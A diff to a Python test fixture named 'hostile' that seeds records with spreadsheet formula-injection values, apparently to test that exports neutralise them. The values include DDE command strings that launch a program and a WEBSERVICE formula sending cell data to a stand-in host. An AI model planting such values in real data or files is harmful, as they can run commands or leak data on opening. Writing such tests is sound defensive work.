@@ -52,15 +52,18 @@ def hostile(tree, personas, client_as):
         tree.a1, name=HOSTILE, employer="+cmd|' /C calc'!A0", note="@SUM(1+1)*cmd|' /C calc'!A0", sponsors="-2+3"
     )
     create_unit(actor=SETUP, owner=tree.a, name="=1+1单位")
-    Verdict.objects.create(
+    # The live refresh may already have judged this March (with the clock at its end): the hostile text replaces it.
+    Verdict.objects.update_or_create(
         rule_id="MTG-04",
         organization=branch,
         period_key=f"{TODAY.year}-03",
-        period_start=datetime.date(TODAY.year, 3, 1),
-        period_end=datetime.date(TODAY.year, 3, 31),
-        status=VerdictStatus.MISSED,
-        explanation="=WEBSERVICE(\"http://x/\"&A1)",
-        computed_at=timezone.now(),
+        defaults={
+            "period_start": datetime.date(TODAY.year, 3, 1),
+            "period_end": datetime.date(TODAY.year, 3, 31),
+            "status": VerdictStatus.MISSED,
+            "explanation": "=WEBSERVICE(\"http://x/\"&A1)",
+            "computed_at": timezone.now(),
+        },
     )
     admin = client_as(personas["工委管理员"])
     admin.post(
